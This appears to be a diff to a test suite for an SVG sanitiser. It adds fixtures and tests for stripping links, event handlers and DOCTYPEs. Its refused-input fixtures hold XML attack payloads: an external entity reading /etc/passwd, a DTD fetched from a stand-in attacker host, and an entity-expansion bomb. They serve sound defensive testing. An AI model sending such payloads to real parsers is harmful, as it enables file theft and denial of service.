@@ -79,7 +79,8 @@ const hostile: Record<string, string> = {
 }
 
 const refused: Record<string, string> = {
-  'a DOCTYPE': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${svg('')}`,
+  'a DOCTYPE with declarations': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [ ]>${svg('')}`,
+  'an entity of a DOCTYPE from elsewhere': `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${svg('<text>&x;</text>')}`,
   'an entity that reads a file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
   'entities that grow': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
   'an unknown entity': svg('<text>&nbsp;</text>'),
@@ -134,6 +135,22 @@ describe('a cleaned SVG', () => {
       'viewBox="0 0 24 12"',
     ])
       assert.ok(text.includes(kept), `${kept} in ${text}`)
+  })
+
+  test('keeps what a link or a choice holds: it is part of the drawing', () => {
+    const shapes = cleanSvg(
+      svg('<a xlink:href="https://x.example" id="l" onclick="x()"><rect width="5"/></a><use href="#l"/>'),
+    )
+    assert.match(shapes.text, /<g id="l"><rect width="5"><\/rect><\/g><use href="#l">/)
+    const letters = cleanSvg(svg('<text>To <a href="https://x.example"><tspan>us</tspan></a></text>'))
+    assert.match(letters.text, /<text>To <tspan><tspan>us<\/tspan><\/tspan><\/text>/)
+    const choice = cleanSvg(svg('<switch><foreignObject requiredExtensions="x"/><g><path d="M0 0"/></g></switch>'))
+    assert.match(choice.text, /<switch><g><path d="M0 0"><\/path><\/g><\/switch>/)
+  })
+
+  test('is also made of one with the DOCTYPE that drawing programs write, which is left out', () => {
+    const doctype = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
+    assert.equal(cleanSvg(doctype + svg('<path d="M0 0"/>')).text, cleanSvg(svg('<path d="M0 0"/>')).text)
   })
 
   test('says its size where its root does', () => {
